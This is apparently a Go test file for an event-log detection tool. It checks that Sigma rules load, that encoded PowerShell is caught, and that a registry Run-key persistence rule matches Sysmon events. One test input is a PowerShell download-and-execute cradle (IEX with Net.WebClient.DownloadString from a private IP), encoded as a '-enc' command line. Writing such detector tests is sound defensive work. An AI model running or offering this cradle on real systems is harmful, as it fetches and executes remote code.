package detections

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/evtxhunt/evtxhunt/analyzer/event"
	"github.com/evtxhunt/evtxhunt/detections/cmdline"
	"github.com/evtxhunt/evtxhunt/detections/sigma"
)

func encodedPowerShell(script string) *event.Process {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	p := &event.Process{EventID: 1}
	p.Set(event.FieldImage, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)
	p.Set(event.FieldCommandLine, "powershell.exe -nop -enc "+base64.StdEncoding.EncodeToString(b))
	return p
}

func TestLoadBuiltinWithChecks(t *testing.T) {
	set, errs := Load(Config{})
	if bad := sigma.Errors(errs); len(bad) > 0 {
		t.Fatalf("built-in rules fail to load: %v", bad)
	}
	ids := map[string]bool{}
	for _, r := range set.Rules() {
		ids[r.ID] = true
	}
	for _, ck := range cmdline.Checks() {
		if !ids[ck.ID] {
			t.Errorf("check %q is not among the set's rules", ck.Title)
		}
	}
	hits, _ := set.Detect(encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')"), nil, nil)
	var found *Hit
	for i := range hits {
		if hits[i].Rule.ID == cmdline.EncodedPowerShell.ID {
			found = &hits[i]
		}
	}
	if found == nil {
		t.Fatalf("encoded PowerShell not detected; hits: %v", hits)
	}
	if !strings.Contains(found.Decoded, "DownloadString('http://10.1.2.3/a')") {
		t.Errorf("decoded payload %q lacks the script", found.Decoded)
	}
	if found.Rule.Level != cmdline.EncodedPowerShell.Level || found.Rule.Title != cmdline.EncodedPowerShell.Title {
		t.Errorf("stand-in rule %+v does not carry the check's metadata", found.Rule)
	}
}

func TestChecksFollowConfig(t *testing.T) {
	p := encodedPowerShell("Write-Output hello")
	// --min-level critical leaves the high-level checks out.
	set, _ := Load(Config{MinLevel: sigma.Critical})
	hits, _ := set.Detect(p, nil, nil)
	for _, h := range hits {
		if h.Rule.Level < sigma.Critical {
			t.Errorf("hit %q below --min-level", h.Rule.Title)
		}
	}
	// --no-builtin leaves the checks out with the built-in rules.
	set = NewSet(nil)
	if hits, _ := set.Detect(p, nil, nil); len(hits) != 0 {
		t.Errorf("a set without built-ins gave hits: %v", hits)
	}
}

// chromeRenderer is a benign 4688 event no built-in rule matches: a
// browser renderer started by the browser.
func chromeRenderer() *event.Process {
	p := &event.Process{EventID: 4688}
	p.Set(event.FieldImage, `C:\Program Files\Google\Chrome\Application\chrome.exe`)
	p.Set(event.FieldCommandLine, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`)
	p.Set(event.FieldParentImage, `C:\Program Files\Google\Chrome\Application\chrome.exe`)
	return p
}

func BenchmarkDetectBuiltin(b *testing.B) {
	set, _ := Load(Config{})
	p := chromeRenderer()
	var hits []Hit
	var scratch []*sigma.Rule
	b.ReportAllocs()
	for b.Loop() {
		hits, scratch = set.Detect(p, hits[:0], scratch)
	}
}

// TestDetectEventAndSelection loads a registry rule from a file (-r) with
// the built-in rules and checks DetectEvent finds it on a Sysmon 13
// record, not on the process events' rules, and that the set's Selection
// asks for Sysmon 13 and the Security 4657 equivalent.
// Security 4624 is selected for the built-in correlations (brute force then
// success); 4634 by nothing.
func TestDetectEventAndSelection(t *testing.T) {
	dir := t.TempDir()
	rule := `title: Run key written by a script host
id: 3f0c7d2e-9a61-4c55-8f0e-2b7d4e6a1c01
level: high
logsource:
    product: windows
    category: registry_set
detection:
    sel:
        TargetObject|contains: '\CurrentVersion\Run\'
        Image|endswith: '\wscript.exe'
    condition: sel
`
	path := filepath.Join(dir, "run.yml")
	if err := os.WriteFile(path, []byte(rule), 0o644); err != nil {
		t.Fatal(err)
	}
	set, errs := Load(Config{RulePaths: []string{path}})
	if len(errs) > 0 {
		t.Fatalf("load: %v", errs)
	}
	e := &event.Event{System: event.System{Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13}, Kind: event.EventData,
		Items: []event.Item{{Name: "EventType", Value: "SetValue"}, {Name: "Image", Value: `C:\Windows\System32\wscript.exe`},
			{Name: "TargetObject", Value: `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\x`}, {Name: "Details", Value: `C:\x.vbs`}}}
	hits, scratch := set.DetectEvent(e, nil, nil)
	if len(hits) != 1 || hits[0].Rule.ID != "3f0c7d2e-9a61-4c55-8f0e-2b7d4e6a1c01" {
		t.Errorf("DetectEvent = %v, want the registry rule", hits)
	}
	e.EventID = 12
	if hits, _ = set.DetectEvent(e, hits[:0], scratch); len(hits) != 0 {
		t.Errorf("DetectEvent on Sysmon 12 = %v, want nothing", hits)
	}
	sel := set.Selection()
	for _, tc := range []struct {
		channel string
		id      uint32
		want    bool
	}{{"Microsoft-Windows-Sysmon/Operational", 13, true}, {"Security", 4657, true}, {"Security", 4624, true}, {"Security", 4634, false}} {
		if got := sel.Wants(tc.channel, tc.id); got != tc.want {
			t.Errorf("Selection %s: Wants(%s, %d) = %v, want %v", sel, tc.channel, tc.id, got, tc.want)
		}
	}
}

func BenchmarkDetectEvent(b *testing.B) {
	set, _ := Load(Config{})
	e := &event.Event{System: event.System{Channel: "Security", EventID: 4624}, Kind: event.EventData,
		Items: []event.Item{{Name: "TargetUserName", Value: "alice"}, {Name: "LogonType", Value: "3"}}}
	var hits []Hit
	var scratch []*sigma.Rule
	b.ReportAllocs()
	for b.Loop() {
		hits, scratch = set.DetectEvent(e, hits[:0], scratch)
	}
}
